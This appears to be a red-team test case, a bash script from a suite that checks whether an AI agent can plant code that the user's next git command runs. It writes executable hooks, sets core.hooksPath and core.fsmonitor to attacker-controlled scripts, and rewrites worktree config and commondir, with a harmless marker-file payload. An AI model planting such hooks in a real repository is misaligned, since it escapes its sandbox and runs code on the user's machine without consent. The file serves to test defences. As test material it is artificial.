#!/usr/bin/env bash
# title: puts hooks into the repository, which the user's next git command would run
# class: E
# fixtures: py
# agent: git = "shared"
# wants: the user's git runs it
# honest: yes
# check: cd "$REDTEAM_WORK"; git -c user.name=x -c user.email=x@localhost commit -q --allow-empty -m next; git status > /dev/null; test -e "$REDTEAM_OUT/ran"

honest
run='#!/bin/sh\ntouch "%s/ran"\n'
mkdir -p .git/hooks .evil/hooks
for hook in .git/hooks/pre-commit .git/hooks/post-commit .evil/hooks/pre-commit .evil/watch; do
    printf "$run" "$REDTEAM_OUT" > "$hook"
    chmod +x "$hook"
done
git config core.hooksPath "$PWD/.evil/hooks"
git config core.fsmonitor "$PWD/.evil/watch"
printf '[core]\n\thooksPath = %s\n' "$PWD/.evil/hooks" > .git/config.worktree
mv .git/hooks .git/hooks.old && mkdir .git/hooks && cp .evil/hooks/pre-commit .git/hooks/
# Another configuration for all of it.
cp -r .git .evil/common && git config --file .evil/common/config core.fsmonitor "$PWD/.evil/watch" &&
    echo ../.evil/common > .git/commondir
